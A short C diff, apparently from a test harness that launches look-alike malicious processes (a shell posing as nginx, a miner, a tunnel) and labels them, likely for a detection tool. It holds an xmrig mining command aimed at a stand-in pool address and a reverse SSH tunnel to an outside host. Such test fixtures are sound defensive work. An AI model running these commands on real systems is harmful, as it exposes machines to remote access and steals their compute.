@@ -79,10 +79,12 @@ void posing(void)
         connect_to("198.51.100.33", 3333, SOCK_NONBLOCK | SOCK_CLOEXEC);
     if (!strcmp(me, "nginx")) {
         become(WEB);
-        if (!fork()) {
+        pid_t pid = fork();
+        if (!pid) {
             execl("/bin/sh", "sh", "-c", "sleep 7200; :", NULL);
             _exit(1);
         }
+        mark("web_shell", pid, "/bin/sh");
     }
     if (!strcmp(me, ".agent")) {
         int fd = socket(AF_INET, SOCK_STREAM, 0);
@@ -110,7 +112,7 @@ static void odd_programs(void)
     RUN("miner", "/tmp/.../xmrig", "./xmrig", "-o", "stratum+tcp://198.51.100.33:3333", "-u",
         "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZi",
         "--donate-level=1");
-    RUN("web_shell", "/usr/sbin/nginx", "nginx");
+    RUN("server", "/usr/sbin/nginx", "nginx");
     RUN("tunnel", "/usr/bin/ssh", "ssh", "-fN", "-R", "2222:127.0.0.1:22", "u@198.51.100.34");
     start("no_arguments", "/usr/sbin/rsyslogd", (char *[]){ NULL }, (char *[]){ NULL });
 }
